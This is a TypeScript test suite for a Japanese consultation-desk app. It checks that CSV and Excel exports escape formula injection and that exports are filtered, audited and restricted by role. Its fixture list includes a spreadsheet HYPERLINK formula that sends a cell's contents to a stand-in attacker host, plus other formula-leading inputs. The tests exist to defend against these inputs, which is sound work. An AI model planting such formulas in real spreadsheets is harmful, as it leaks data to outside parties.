import { read, utils } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ASKER, OFFICER, person } from '../../bot/consultations/desk-of-tests.js';
import { pageOver } from './page-of-tests.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"押す")',
  '+81-3-1234のような番号は',
  '@SUM(A1:A9)とは',
  '-1+1は\u0000\u000B何',
  '"引用",改行\nカンマ',
];

async function bytesOf(response: Response | Promise<Response>): Promise<Uint8Array> {
  return new Uint8Array(await (await response).arrayBuffer());
}

async function asked() {
  const page = await pageOver({});
  const staff = await page.browserOf(ASKER);
  const office = await page.browserOf(OFFICER);
  for (const question of HOSTILE) await staff.post('/ask', { question });
  await office.post('/console/consultations/R8-000001/reply', {
    revision: '2',
    text: '=1+1 とお答えします。',
  });
  return { ...page, staff, office };
}

describe('a list that leaves the desk', () => {
  it('is a workbook of text: nothing in it is a formula or a link, and Excel opens it whole', async () => {
    const { office } = await asked();
    const response = await office.get('/console/export.xlsx?view=all&sort=oldest');
    expect(response.headers.get('content-disposition')).toContain('attachment');
    const book = read(await bytesOf(response), { type: 'array', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0] ?? ''];
    const cells = Object.entries(sheet ?? {}).filter(([place]) => !place.startsWith('!'));
    for (const [, cell] of cells) expect(cell).toMatchObject({ t: 's' });
    for (const [, cell] of cells) expect(cell).not.toHaveProperty('f');
    const rows = utils.sheet_to_json<Record<string, string>>(sheet ?? {});
    expect(rows.map((row) => row.質問)).toEqual([HOSTILE[0], HOSTILE[1], HOSTILE[2], '-1+1は何', HOSTILE[4]]);
    expect(rows[0]).toMatchObject({
      相談番号: 'R8-000001',
      市町村: '見本市',
      状態: '回答済み',
      事務局の回答: '=1+1 とお答えします。',
      回答日: '2026-11-22',
    });
  });

  it('is a CSV that Japanese Excel opens, in which no cell begins a formula', async () => {
    const { office } = await asked();
    const bytes = await bytesOf(office.get('/console/export.csv?view=all&sort=oldest'));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.split('\r\n').length).toBeGreaterThan(HOSTILE.length);
    const rows: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' });
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('holds what the page shows and nothing else, and is audited with its filter', async () => {
    const { office, audit } = await asked();
    const elsewhere = await bytesOf(office.get('/console/export.csv?view=all&prefecture=滋賀県'));
    expect(new TextDecoder().decode(elsewhere).trim().split('\r\n')).toHaveLength(1);
    const waiting = new TextDecoder().decode(await bytesOf(office.get('/console/export.csv?view=waiting')));
    expect(waiting).not.toContain('R8-000001');
    expect(waiting).toContain('R8-000002');
    const day = await bytesOf(office.get('/console/export.csv?view=all&from=2026-11-22&until=2026-11-22'));
    expect(new TextDecoder().decode(day)).toContain('R8-000005');
    const before = await bytesOf(office.get('/console/export.csv?view=all&until=2026-11-21'));
    expect(new TextDecoder().decode(before)).not.toContain('R8-0000');
    expect((await audit.recent(1))[0]).toMatchObject({
      action: 'export.consultations',
      content: { until: '2026-11-21', rows: 0 },
    });
  });

  it('is not for staff, prefectures or the operator', async () => {
    const { browserOf } = await pageOver({});
    for (const role of ['staff', 'prefecture', 'operator'] as const) {
      const other = await browserOf(person(`other-${role}`, role));
      expect((await other.get('/console/export.xlsx')).status).toBe(403);
      expect((await other.get('/console/export.csv')).status).toBe(403);
    }
  });
});

describe('a classification', () => {
  it('is proposed, filtered by, and put right by the secretariat', async () => {
    const { browserOf } = await pageOver({});
    const staff = await browserOf(ASKER);
    const office = await browserOf(OFFICER);
    await staff.post('/ask', { question: '多職種の研修会の講師はだれに頼めますか' });
    const path = '/console/consultations/R8-000001';
    expect(await office.page(path)).toContain('その他（自動）');
    expect((await office.post(`${path}/classify`, { revision: '2', tag: 'no-such' })).status).toBe(400);
    expect((await office.post(`${path}/classify`, { revision: '2', tag: 'training' })).status).toBe(303);
    expect(await office.page(path)).toContain('（カ）医療・介護関係者の研修</dd>');
    expect(await office.page('/console?view=all&tag=training')).toContain('R8-000001');
    expect(await office.page('/console?view=all&tag=survey')).not.toContain('R8-000001');
    expect(await staff.page('/consultations/R8-000001')).not.toContain('分類の変更');
  });
});
